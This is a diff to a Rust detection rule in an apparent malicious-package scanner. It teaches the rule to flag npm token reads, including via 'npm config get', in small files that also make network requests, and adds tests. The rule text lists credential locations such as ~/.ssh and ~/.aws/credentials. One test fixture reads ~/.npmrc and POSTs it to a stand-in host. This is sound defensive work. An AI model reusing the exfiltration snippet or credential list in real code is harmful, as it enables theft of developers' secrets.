@@ -21,7 +21,8 @@ static INFO: RuleInfo = RuleInfo {
 Strings (after constant folding, so `path.join(os.homedir(), '.npmrc')` reads `~/.npmrc`) and
 commands that name where secrets live:
 
-- developer tokens: `~/.npmrc`, `~/.ssh/*`, `~/.aws/credentials`, `~/.config/gh/hosts.yml`,
+- developer tokens: `~/.npmrc` (or the token itself through `npm config get
+  //registry.npmjs.org/:_authToken`), `~/.ssh/*`, `~/.aws/credentials`, `~/.config/gh/hosts.yml`,
   `.git-credentials`, `gh auth token`;
 - cloud and container credentials: `~/.docker/config.json`, `~/.kube/config`, gcloud
   `credentials.db`/`application_default_credentials.json`, the instance metadata endpoints
@@ -41,7 +42,11 @@ like registry-auth-token read `~/.npmrc`); browser or wallet data, an app sessio
 `gh auth token` or a secret scanner is high; two locations are high; three, or two next to a
 network call or process execution, or any next to a raw IP or an exfiltration service, are
 critical. Cloud SDK locations
-(docker, kube, gcloud, metadata) are low on their own.
+(docker, kube, gcloud, metadata) are low on their own. A developer-token read (not AWS credentials,
+which SDKs sign requests with) in a small hand-written file that also makes a network request
+carries the network capability, so the score combines the two (a
+request to the registry alone does not make a package malicious; a token read, a request and an
+install hook running that file together do).
 
 ## Real attacks
 
@@ -65,6 +70,9 @@ home path (ignore lists, packlists) is not reported.
 "#,
 };
 
+/// Files larger than this are bundles, where a read and a request need not be related.
+const HANDWRITTEN_FILE: usize = 50_000;
+
 impl FileRule for CredentialFiles {
     fn info(&self) -> &'static RuleInfo {
         &INFO
@@ -86,6 +94,15 @@ impl FileRule for CredentialFiles {
         let strong: Vec<_> = kinds.iter().filter(|(k, _, _)| !k.is_weak()).collect();
         let acts = sinks::has_network(file) || file.calls.iter().any(sinks::is_exec_call);
         let exfil = exfil_target(file);
+        // A request made from the same small hand-written file: the read and a way out, which
+        // the score combines. Not in bundles (a network call and a read far apart mean little),
+        // and not for AWS credentials, which every AWS SDK client reads and signs requests with.
+        let handwritten = !file.metrics.minified && file.metrics.bytes.max(file.size as usize) < HANDWRITTEN_FILE;
+        let sends = handwritten
+            && kinds
+                .iter()
+                .any(|(k, _, _)| !k.is_weak() && *k != CredentialKind::AwsCredentials)
+            && file.calls.iter().any(sinks::is_network_call);
         let alarming = |k: CredentialKind| {
             matches!(
                 k,
@@ -121,6 +138,8 @@ impl FileRule for CredentialFiles {
             message.push_str(&format!(" in a file that sends to {target}"));
         } else if severity == Severity::Critical && acts {
             message.push_str(" in a file that talks to the network or runs commands");
+        } else if sends && !strong.is_empty() {
+            message.push_str(" in a file that also makes network requests");
         }
         let (_, line, evidence) = strong.first().copied().unwrap_or(&kinds[0]);
         // The line when it shows the path; the folded string when the path was built.
@@ -128,15 +147,11 @@ impl FileRule for CredentialFiles {
             Some(text) if text.contains(evidence.as_str()) => text,
             _ => evidence.clone(),
         };
-        out.push(sinks::finding(
-            &INFO,
-            file,
-            *line,
-            severity,
-            confidence,
-            message,
-            Some(&evidence),
-        ));
+        let mut finding = sinks::finding(&INFO, file, *line, severity, confidence, message, Some(&evidence));
+        if sends && !strong.is_empty() && !finding.capabilities.contains(&Capability::Network) {
+            finding.capabilities.push(Capability::Network);
+        }
+        out.push(finding);
     }
 }
 
@@ -172,6 +187,36 @@ mod tests {
         assert_eq!(findings.len(), 1, "{findings:?}");
         assert_eq!(findings[0].severity, Severity::Moderate);
         assert_eq!(findings[0].line, Some(4));
+    }
+
+    #[test]
+    fn npm_token_through_npm_config_is_an_npmrc_read() {
+        let source = "const { execSync } = require('child_process');\nconst t = execSync('npm config get //registry.npmjs.org/:_authToken').toString();";
+        let findings = run(source);
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert!(findings[0].message.contains("npm tokens"), "{}", findings[0].message);
+        // Other settings, and the key named in a config library, are not.
+        assert!(run("require('child_process').execSync('npm config get prefix');").is_empty());
+        assert!(run("const KEY = '//registry.npmjs.org/:_authToken';\nmodule.exports = (rc) => rc[KEY];").is_empty());
+    }
+
+    #[test]
+    fn a_token_read_next_to_a_request_carries_the_network_capability() {
+        let source = "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nrequire('https').request({ host: 'stats.example.com', method: 'POST' }).end(t);";
+        let findings = run(source);
+        assert_eq!(findings.len(), 1, "{findings:?}");
+        assert!(findings[0].capabilities.contains(&Capability::Network), "{findings:?}");
+        assert!(
+            findings[0].message.contains("network requests"),
+            "{}",
+            findings[0].message
+        );
+        // Without a request in the file, the read is just a read.
+        let quiet = run("const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');");
+        assert!(!quiet[0].capabilities.contains(&Capability::Network), "{quiet:?}");
+        // AWS SDK clients read ~/.aws/credentials and sign requests with them.
+        let sdk = run("const p = require('os').homedir() + '/.aws/credentials';\nconst c = require('fs').readFileSync(p, 'utf8');\nrequire('https').request({ host: 'sts.amazonaws.com' }).end();");
+        assert!(!sdk[0].capabilities.contains(&Capability::Network), "{sdk:?}");
     }
 
     #[test]
